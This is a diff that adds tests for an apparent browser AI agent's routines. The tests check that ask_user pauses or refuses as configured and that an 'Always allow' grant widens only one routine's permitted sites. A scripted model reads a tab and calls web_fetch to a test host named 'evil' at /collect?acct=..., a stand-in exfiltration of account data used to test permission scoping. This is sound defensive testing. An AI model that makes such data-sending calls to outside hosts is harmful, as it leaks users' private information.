@@ -180,3 +180,111 @@ test("a routine's sites are allowed for its own runs only: a chat that read the 
   assert.deepEqual(chat.denied, ["web_fetch"])
   assert.equal(evil.requests.filter((r) => r.path.startsWith("/collect")).length, 1)
 })
+
+test("ask_user in a routine: set to pause, it waits for the user's answer, not the chat's timeout; set to refuse, it is refused at once", async () => {
+  await api(panel, () => globalThis.agent.settings.update({ askUserTimeoutMs: 1000 }))
+  const asker = await api(panel, () => globalThis.agent.routines.create({ name: "Asker", prompt: "Ask me which account" }))
+  const question = () =>
+    model.script([{ toolCalls: [{ id: "q", name: "ask_user", arguments: { question: "Which account?" } }] }, { text: "Thanks." }])
+  question()
+  const { started, asked } = await panel.evaluate(async (id) => {
+    const asked = new Promise<any>((resolve) => {
+      const off = globalThis.agent.onEvent((e) => {
+        if (e.type === "question_asked") {
+          off()
+          resolve(e)
+        }
+      })
+    })
+    const started = await globalThis.agent.routines.runNow(id)
+    return { started, asked: await asked }
+  }, asker.id)
+  assert.equal(asked.conversationId, started.conversationId)
+  assert.ok(asked.expiresAt - Date.now() > 24 * 3_600_000, "a paused routine's question is not held to the chat's timeout")
+  const sw = await session.serviceWorker()
+  const notifications = await sw.evaluate(() => chrome.notifications.getAll())
+  assert.ok(`routine-paused:${String(asked.id)}` in notifications, JSON.stringify(notifications))
+  const finished = nextRoutineEnd(panel)
+  await api(panel, ([id, answer]) => globalThis.agent.answer(id, answer), [asked.id, "savings"])
+  assert.equal((await finished).status, "completed")
+  assert.deepEqual(await toolErrors(started.conversationId), { ask_user: "ok" })
+  const answered = model.requests.at(-1)!.body.messages.find((m: any) => m.role === "tool")
+  assert.match(String(answered.content), /savings/)
+
+  const refuser = await api(panel, () =>
+    globalThis.agent.routines.create({ name: "Asker that refuses", prompt: "Ask me which account", onConfirm: "refuse" }),
+  )
+  question()
+  const refused = await runAndWait(panel, "runNow", refuser.id)
+  assert.equal(refused.finished.status, "completed")
+  assert.deepEqual(
+    (await events(refused.started.conversationId)).filter((e) => e.type === "question_asked"),
+    [],
+  )
+  assert.deepEqual(await toolErrors(refused.started.conversationId), { ask_user: "permission_denied" })
+  await api(panel, () => globalThis.agent.settings.update({ askUserTimeoutMs: 300_000 }))
+})
+
+test("'Always allow' answered to a paused routine widens that routine's sites only: not the settings', not a chat's", async () => {
+  const routine = await api(panel, () => globalThis.agent.routines.create({ name: "Widened", prompt: "Report my account" }))
+  const script = () =>
+    model.script([
+      { toolCalls: [{ id: "read", name: "get_tab_content", arguments: { tab_id: tabId } }] },
+      { toolCalls: [{ id: "x1", name: "web_fetch", arguments: { url: `${evil.origin}/collect?acct=widened` } }] },
+      { text: "Sent." },
+    ])
+  const collected = () => evil.requests.filter((r) => r.path.startsWith("/collect?acct=widened")).length
+  script()
+  const run = await panel.evaluate(async (id) => {
+    const grants = new Promise<any>((resolve) => {
+      const off = globalThis.agent.onEvent((e) => {
+        if (e.type === "confirmation_requested") {
+          off()
+          void globalThis.agent.confirm(e.id, true, "site_always")
+          resolve(e.grants)
+        }
+      })
+    })
+    const finished = new Promise<any>((resolve) => {
+      const off = globalThis.agent.onEvent((e) => {
+        if (e.type === "routine_run_finished") {
+          off()
+          resolve(e)
+        }
+      })
+    })
+    await globalThis.agent.routines.runNow(id)
+    return { grants: await grants, finished: await finished }
+  }, routine.id)
+  assert.ok(run.grants.includes("site_always"), JSON.stringify(run.grants))
+  assert.equal(run.finished.status, "completed")
+  assert.equal(collected(), 1)
+  const saved = (await api(panel, () => globalThis.agent.routines.list())).find((r: any) => r.id === routine.id)
+  assert.deepEqual(saved.sites, [evil.origin])
+  const settings = await api(panel, () => globalThis.agent.settings.get())
+  assert.ok(!(settings.allowedSites ?? []).includes(evil.origin), "the settings' allowed sites did not widen")
+
+  // The routine's next run sends without asking; a chat that read the same page is still asked.
+  script()
+  const again = await runAndWait(panel, "runNow", routine.id)
+  assert.deepEqual(
+    (await events(again.started.conversationId)).filter((e) => e.type === "confirmation_requested"),
+    [],
+  )
+  assert.equal(collected(), 2)
+  script()
+  const chat = await panel.evaluate(async () => {
+    const asked: string[] = []
+    const off = globalThis.agent.onEvent((e) => {
+      if (e.type === "confirmation_requested") {
+        asked.push(e.tool)
+        void globalThis.agent.confirm(e.id, false)
+      }
+    })
+    await globalThis.agent.chat("Report my account").result
+    off()
+    return asked
+  })
+  assert.deepEqual(chat, ["web_fetch"])
+  assert.equal(collected(), 2)
+})
